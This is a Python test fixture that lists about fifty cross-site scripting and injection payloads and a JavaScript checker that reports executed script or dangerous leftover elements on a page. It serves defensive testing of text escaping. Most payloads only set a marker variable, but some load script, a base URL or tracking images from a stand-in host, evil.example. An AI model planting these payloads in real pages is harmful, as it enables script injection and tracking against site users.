"""Texts that would run as script, or break a page, wherever one is not treated as text. And a look for what they did.

Each that runs sets `window.__xss`; each element that one would make has the class or the id "xss".
"""

from __future__ import annotations

RUN = "window.__xss=1"
ELEMENT = "class=xss"

PAYLOADS = {
    "script": f"<script {ELEMENT}>{RUN}</script>",
    "script in capitals": f"<ScRiPt {ELEMENT}>{RUN}</sCrIpT>",
    "script of another host": f"<script {ELEMENT} src=https://evil.example/x.js></script>",
    "end of a script": f"</script><script {ELEMENT}>{RUN}</script>",
    "end of a text area": f"</textarea><script {ELEMENT}>{RUN}</script>",
    "end of a title": f"</title><script {ELEMENT}>{RUN}</script>",
    "end of a comment": f"--><script {ELEMENT}>{RUN}</script><!--",
    "end of CDATA": f"]]><script {ELEMENT}>{RUN}</script>",
    "image": f"<img {ELEMENT} src=x onerror={RUN}>",
    "image without end": f"<img {ELEMENT} src=x onerror={RUN} ",
    "image with slashes": f"<img/{ELEMENT}/src=x/onerror={RUN}>",
    "nested tags": f"<<b {ELEMENT}>script>{RUN}//<</script>",
    "picture to count readers": f'<img {ELEMENT} src="https://evil.example/count.gif">',
    "svg": f"<svg {ELEMENT} onload={RUN}></svg>",
    "animated svg": f"<svg {ELEMENT}><animate onbegin={RUN} attributeName=x dur=1s></svg>",
    "math": f'<math {ELEMENT}><maction xlink:href="javascript:{RUN}">x</maction></math>',
    "frame": f'<iframe {ELEMENT} srcdoc="<script>parent.__xss=1</script>"></iframe>',
    "frame with a script's address": f'<iframe {ELEMENT} src="javascript:parent.__xss=1"></iframe>',
    "details": f"<details {ELEMENT} open ontoggle={RUN}>x</details>",
    "focus": f"<input {ELEMENT} autofocus onfocus={RUN}>",
    "form": f'<form {ELEMENT} action="javascript:{RUN}"><button id=xss>x</button></form>',
    "style": f"<style {ELEMENT}>* {{display: none}}</style>",
    "other base": f"<base {ELEMENT} href=https://evil.example/>",
    "refresh": f'<meta {ELEMENT} http-equiv=refresh content="0;url=javascript:{RUN}">',
    "quotes of an attribute": f'" onmouseover="{RUN}" autofocus onfocus="{RUN}" class="xss',
    "single quotes of an attribute": f"' onmouseover='{RUN}' class='xss",
    "event in a link": f'[x](https://evil.example/"onmouseover="{RUN})',
    "link with a script": f"[x](javascript:{RUN})",
    "link with a script in capitals": f"[x](JaVaScRiPt:{RUN})",
    "link with a script behind entities": f"[x](&#106;avascript&colon;{RUN})",
    "link with a script behind a tab": f"[x](java\tscript:{RUN})",
    "link with data": "[x](data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX194c3M9MTwvc2NyaXB0Pg==)",
    "link without a scheme": "[x](//evil.example/x)",
    "automatic link": f"<javascript:{RUN}>",
    "picture in Markdown": "![x](https://evil.example/count.gif)",
    "entities": f"&lt;script {ELEMENT}&gt;{RUN}&lt;/script&gt;",
    "template of a page": "{{constructor.constructor('window.__xss=1')()}} {% debug %} #{7*7}",
    "template of a script": "`-${window.__xss=1}-`",
    "end of a string": f"';{RUN}//\\';{RUN}//\";{RUN}//",
    "line ends of a script": f"\u2028{RUN}\u2029{RUN}",
    "full-width brackets": f"＜script {ELEMENT}＞{RUN}＜/script＞",
    "letters that grow small": f"<ſcript {ELEMENT}>{RUN}</ſcript>",
    "null bytes": f"<scr\0ipt {ELEMENT}>{RUN}</scr\0ipt>",
    "other direction": "\u202e\u2067txt.exe\u202c <b class=xss>x</b> \u200f",
    "names of objects": '__proto__ constructor.prototype {"__proto__": {"innerHTML": "x"}} toString hasOwnProperty',
    "very long word": "Donaudampfschiff" * 40,
    "zalgo": "Z\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308" * 40,
    "emoji": "👩‍👩‍👧‍👦🏳️‍🌈" * 30,
}

# Returns what is wrong with the page, with all shadow roots; [] for nothing.
LOOK = r"""() => {
    const faults = window.__xss === undefined ? [] : ['a script ran']
    const address = /^(href|src|srcdoc|action|formaction|data|poster|background|xlink:href)$/i
    const foreign = 'script:not([src]), iframe, frame, object, embed, img, picture, video, audio, base, math, details,'
        + 'meta[http-equiv], marquee, animate, .xss, #xss, svg:not([aria-hidden])'
    const look = root => {
        for (const node of root.querySelectorAll(foreign)) faults.push(node.outerHTML.slice(0, 200))
        for (const node of root.querySelectorAll('*')) {
            for (const {name, value} of node.attributes) {
                const bare = value.replace(/[\s\0-\x20]/g, '')
                if (/^on/i.test(name)) faults.push(`${node.tagName} ${name}`)
                if (address.test(name) && /^(javascript|data|vbscript|blob):/i.test(bare)) faults.push(`${name} ${value}`)
            }
            if (node.shadowRoot) look(node.shadowRoot)
        }
    }
    look(document)
    return faults
}"""
